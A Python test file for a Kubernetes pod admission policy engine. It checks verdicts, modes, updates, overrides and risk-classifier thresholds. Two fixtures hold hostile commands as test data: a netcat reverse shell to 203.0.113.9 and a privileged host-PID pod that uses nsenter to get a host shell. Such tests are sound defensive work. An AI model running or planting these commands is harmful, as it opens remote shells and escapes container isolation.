"""Allow, warn or deny."""

import json
import re
from datetime import UTC, datetime
from typing import Any

import pytest

from policies import config, decision, resource
from policies.config import Mode, Policy
from policies.decision import ALLOWED, Decision, Verdict, decide, refuse
from policies.engine import NOTHING, Evaluation
from policies.overrides import Override
from policies.profile import Action
from policies.resource import UnreadableObjectError

RULES = """
    run-as-non-root-missing: {action: audit}
    host-port: {action: warn}
    sysctls: {action: warn}
    privileged: {action: deny}
    host-pid: {action: deny}
"""


def policy(mode: str = "enforce") -> Policy:
    head = "apiVersion: podgate.dev/v1alpha1\nkind: GatePolicy\n"
    return config.parse(f"{head}spec:\n  mode: {mode}\n  profile: pss-baseline\n  rules:{RULES}")


def pod(*containers: dict[str, Any], **spec: Any) -> dict[str, Any]:
    """A pod without any finding, but for what is given."""
    context = {"runAsNonRoot": True}
    return {"apiVersion": "v1", "kind": "Pod", "spec": {"securityContext": context, "containers": containers, **spec}}


def evaluate(obj: dict[str, Any]) -> Evaluation:
    return policy().engine.evaluate(resource.read(obj))


PORT: dict[str, Any] = {"name": "web", "ports": [{"hostPort": 80}]}
PRIVILEGED: dict[str, Any] = {"name": "web", "securityContext": {"privileged": True}}
ROOT: dict[str, Any] = {"name": "web", "securityContext": {"runAsNonRoot": False}}
SYSCTL = {"runAsNonRoot": True, "sysctls": [{"name": "kernel.msgmax"}]}


def rules(found: Decision) -> list[str]:
    return [reason.finding.rule.id for reason in found.reasons]


class TestVerdict:
    def test_nothing_found_is_allowed(self) -> None:
        found = evaluate(pod())
        assert decide(found, policy()) == Decision(Verdict.ALLOW, Verdict.ALLOW, risk=found.risk)
        assert decide(NOTHING, policy()) is ALLOWED
        assert decide(NOTHING, policy()) == Decision(Verdict.ALLOW, Verdict.ALLOW, (), None)

    @pytest.mark.parametrize(
        ("container", "action", "verdict"),
        [
            (ROOT, Action.AUDIT, Verdict.ALLOW),
            (PORT, Action.WARN, Verdict.WARN),
            (PRIVILEGED, Action.DENY, Verdict.DENY),
        ],
        ids=["audit", "warn", "deny"],
    )
    def test_follows_the_action(self, container: dict[str, Any], action: Action, verdict: Verdict) -> None:
        found = decide(evaluate(pod(container)), policy())
        assert (found.verdict, found.judged) == (verdict, verdict)
        assert [reason.action for reason in found.reasons] == [action]
        assert found.unreadable is None

    @pytest.mark.parametrize("first", [0, 1, 2])
    def test_is_the_worst_one_s(self, first: int) -> None:
        containers = [ROOT, PORT, PRIVILEGED]
        found = decide(evaluate(pod(*containers[first:], *containers[:first])), policy())
        assert found.verdict is Verdict.DENY

    def test_reasons_are_sorted_worst_action_then_worst_severity_first(self) -> None:
        found = decide(evaluate(pod(ROOT, PORT, PRIVILEGED, securityContext=SYSCTL, hostPID=True)), policy())
        assert rules(found) == ["privileged", "host-pid", "sysctls", "host-port", "run-as-non-root-missing"]

    def test_a_reason_says_what_is_wrong_and_what_to_write_instead(self) -> None:
        (reason,) = decide(evaluate(pod(PRIVILEGED)), policy()).reasons
        assert reason.text == (
            'privileged: spec.containers[0].securityContext.privileged is true (container "web"). '
            "Set securityContext.privileged to false, and add only the capabilities that the program needs."
        )


class TestMode:
    @pytest.mark.parametrize(
        ("mode", "verdict", "actions"),
        [
            (Mode.ENFORCE, Verdict.DENY, [Action.DENY, Action.WARN, Action.AUDIT]),
            (Mode.WARN, Verdict.WARN, [Action.WARN, Action.WARN, Action.AUDIT]),
            (Mode.AUDIT, Verdict.ALLOW, [Action.AUDIT, Action.AUDIT, Action.AUDIT]),
        ],
    )
    def test_softens_what_would_be_worse(self, mode: Mode, verdict: Verdict, actions: list[Action]) -> None:
        found = decide(evaluate(pod(ROOT, PORT, PRIVILEGED)), policy(mode))
        assert (found.verdict, found.judged) == (verdict, Verdict.DENY)
        assert rules(found) == ["privileged", "host-port", "run-as-non-root-missing"]
        assert [reason.action for reason in found.reasons] == actions

    @pytest.mark.parametrize(
        ("mode", "verdict"), [(Mode.ENFORCE, Verdict.WARN), (Mode.WARN, Verdict.WARN), (Mode.AUDIT, Verdict.ALLOW)]
    )
    def test_never_hardens(self, mode: Mode, verdict: Verdict) -> None:
        found = decide(evaluate(pod(PORT)), policy(mode))
        assert (found.verdict, found.judged) == (verdict, Verdict.WARN)


class TestUpdate:
    def test_what_was_there_before_is_only_recorded(self) -> None:
        before = evaluate(pod(PRIVILEGED))
        found = decide(evaluate(pod(PRIVILEGED)), policy(), before)
        assert found.verdict is Verdict.ALLOW
        assert [(reason.existing, reason.action) for reason in found.reasons] == [(True, Action.AUDIT)]

    def test_what_is_added_counts(self) -> None:
        found = decide(evaluate(pod(PRIVILEGED, hostPID=True)), policy(), evaluate(pod(PRIVILEGED)))
        assert found.verdict is Verdict.DENY
        assert [(reason.finding.rule.id, reason.existing) for reason in found.reasons] == [
            ("host-pid", False),
            ("privileged", True),
        ]

    def test_what_is_mended_is_gone(self) -> None:
        found = decide(evaluate(pod()), policy(), evaluate(pod(PRIVILEGED)))
        assert (found.verdict, found.reasons) == (Verdict.ALLOW, ())

    def test_the_same_rule_at_another_place_counts(self) -> None:
        other = {**PRIVILEGED, "name": "api"}
        found = decide(evaluate(pod(PRIVILEGED, other)), policy(), evaluate(pod(PRIVILEGED)))
        assert found.verdict is Verdict.DENY
        assert [reason.existing for reason in found.reasons] == [False, True]

    def test_an_item_that_is_put_before_it_does_not_make_it_new(self) -> None:
        after = evaluate(pod({"name": "proxy"}, PRIVILEGED))

        assert decide(after, policy(), before=evaluate(pod(PRIVILEGED))).judged is Verdict.ALLOW

    def test_a_second_one_that_looks_the_same_counts(self) -> None:
        before, after = pod(PRIVILEGED), pod(PRIVILEGED, PRIVILEGED)
        found = decide(evaluate(after), policy(), before=evaluate(before))

        assert found.verdict is Verdict.DENY
        assert [reason.existing for reason in found.reasons] == [False, True]

    def test_another_value_at_the_same_place_counts(self) -> None:
        before, after = ({"name": "web", "ports": [{"hostPort": port}]} for port in (80, 443))
        assert decide(evaluate(pod(after)), policy(), evaluate(pod(before))).verdict is Verdict.WARN

    def test_audit_stays_audit(self) -> None:
        (reason,) = decide(evaluate(pod(ROOT)), policy(), evaluate(pod(ROOT))).reasons
        assert (reason.existing, reason.action) == (True, Action.AUDIT)


@pytest.mark.parametrize(
    ("mode", "verdict"), [(Mode.ENFORCE, Verdict.DENY), (Mode.WARN, Verdict.WARN), (Mode.AUDIT, Verdict.ALLOW)]
)
def test_what_cannot_be_read_is_refused_as_the_mode_has_it(mode: Mode, verdict: Verdict) -> None:
    error = UnreadableObjectError(("spec", "hostPID"), "must be true or false, not a string")
    found = refuse(error, policy(mode))
    assert found == decision.Decision(
        verdict, Verdict.DENY, unreadable="spec.hostPID must be true or false, not a string"
    )


#: No rule of the policy has anything to say of it.
QUIET = pod({"name": "web", "image": "alpine", "command": ["sh", "-c", "nc 203.0.113.9 4444 -e /bin/sh"]})
SHELL = pod(
    {
        "name": "a",
        "image": "alpine",
        "command": ["nsenter", "-t", "1", "-m", "sh"],
        "securityContext": PRIVILEGED["securityContext"],
    },
    hostPID=True,
)
END = datetime(2027, 1, 1, tzinfo=UTC)


def by_risk(warn_at: float | None, deny_at: float | None, mode: Mode = Mode.ENFORCE) -> Policy:
    said = {"warnAt": warn_at, "denyAt": deny_at}
    head = "apiVersion: podgate.dev/v1alpha1\nkind: GatePolicy\n"
    return config.parse(
        f"{head}spec:\n  mode: {mode}\n  profile: pss-baseline\n  classifier: {json.dumps(said)}\n  rules:{RULES}"
    )


class TestRisk:
    """What the classifier says leads to something where the policy says so."""

    def test_it_is_only_reported_by_profiles_that_hold_pods_against_a_standard(self) -> None:
        found = decide(evaluate(SHELL), policy())
        assert found.risk is not None
        assert found.risk.probability > 0.9
        assert (found.risk_action, found.remedy, found.remedy_text) == (Action.OFF, (), "")

    @pytest.mark.parametrize(
        ("warn_at", "deny_at", "verdict"),
        [
            (0.5, 0.9, Verdict.DENY),
            (None, 0.9, Verdict.DENY),
            (0.5, None, Verdict.WARN),
            (0.5, 1.0, Verdict.WARN),
            (1.0, 1.0, Verdict.ALLOW),
            (None, None, Verdict.ALLOW),
        ],
    )
    def test_at_and_over_a_threshold_it_is_warned_of_or_denied(
        self, warn_at: float | None, deny_at: float | None, verdict: Verdict
    ) -> None:
        assert decide(evaluate(QUIET), by_risk(warn_at, deny_at)).verdict is verdict

    def test_the_threshold_itself_counts(self) -> None:
        risk = evaluate(QUIET).risk
        assert risk is not None
        assert decide(evaluate(QUIET), by_risk(risk.probability, None)).verdict is Verdict.WARN
        assert decide(evaluate(QUIET), by_risk(risk.probability + 1e-9, None)).verdict is Verdict.ALLOW

    @pytest.mark.parametrize(
        ("mode", "action", "verdict"),
        [
            (Mode.ENFORCE, Action.DENY, Verdict.DENY),
            (Mode.WARN, Action.WARN, Verdict.WARN),
            (Mode.AUDIT, Action.AUDIT, Verdict.ALLOW),
        ],
    )
    def test_the_mode_caps_it(self, mode: Mode, action: Action, verdict: Verdict) -> None:
        found = decide(evaluate(QUIET), by_risk(0.5, 0.9, mode))
        assert (found.risk_action, found.verdict, found.judged) == (action, verdict, Verdict.DENY)

    def test_a_low_one_never_lifts_what_a_rule_denies(self) -> None:
        found = decide(evaluate(pod(PRIVILEGED)), by_risk(0.99, 1.0))
        assert found.risk_action is Action.OFF
        assert found.verdict is Verdict.DENY

    def test_an_update_that_does_not_raise_it_is_only_recorded(self) -> None:
        found = decide(evaluate(QUIET), by_risk(0.5, 0.9), before=evaluate(QUIET))
        assert (found.verdict, found.risk_action) == (Verdict.ALLOW, Action.AUDIT)
        fallen = decide(evaluate(QUIET), by_risk(0.5, 0.9), before=evaluate(SHELL))
        assert (fallen.verdict, fallen.risk_action) == (Verdict.ALLOW, Action.AUDIT)

    def test_an_update_that_raises_it_is_judged(self) -> None:
        found = decide(evaluate(QUIET), by_risk(0.5, 0.9), before=evaluate(pod({"name": "web"})))
        assert (found.verdict, found.risk_action) == (Verdict.DENY, Action.DENY)

    def test_an_override_that_names_it_lifts_it_and_nothing_else(self) -> None:
        override = Override(frozenset({"risk"}), "a drill", END, "", ())
        found = decide(evaluate(SHELL), by_risk(0.5, 0.9), overrides=(override,))
        assert (found.risk_action, found.risk_override) == (Action.AUDIT, override)
        assert found.lifted == {override: ["risk"]}
        # The host's processes are a rule's, too.
        assert [(reason.action, reason.override) for reason in found.reasons] == [(Action.DENY, None)] * 2
        assert found.verdict is Verdict.DENY

    def test_an_override_of_rules_does_not_lift_it(self) -> None:
        override = Override(frozenset({"privileged", "host-pid"}), "a drill", END, "", ())
        found = decide(evaluate(SHELL), by_risk(0.5, 0.9), overrides=(override,))
        assert (found.verdict, found.risk_action, found.risk_override) == (Verdict.DENY, Action.DENY, None)
        assert found.lifted == {override: ["privileged", "host-pid"]}

    @pytest.mark.parametrize(
        ("warn_at", "deny_at", "mode", "limit", "held"),
        [
            (0.5, 0.9, Mode.ENFORCE, 0.9, "denied"),
            (0.5, None, Mode.ENFORCE, 0.5, "warned of"),
            (0.5, 0.9, Mode.WARN, 0.5, "warned of"),
            (None, 0.9, Mode.WARN, 0.9, "warned of"),
        ],
    )
    def test_what_would_change_it_brings_it_below_what_it_is_held_against(
        self, warn_at: float | None, deny_at: float | None, mode: Mode, limit: float, held: str
    ) -> None:
        found = decide(evaluate(QUIET), by_risk(warn_at, deny_at, mode))
        assert found.risk is not None
        assert found.remedy == found.risk.remedy(limit) == ("commands",)
        assert found.remedy_text == f"without its commands it would not be {held} for its risk"

    def test_it_is_told_in_a_line(self) -> None:
        found = decide(evaluate(QUIET), by_risk(0.5, 0.9))
        assert re.fullmatch(
            r"risk: spec looks dangerous \(risk 0\.9\d\): [a-z][^.]+, [a-z][^.]+\. "
            r"Without its commands it would not be denied for its risk\.",
            found.risk_text,
        )
        assert decide(NOTHING, policy()).risk_text == ""
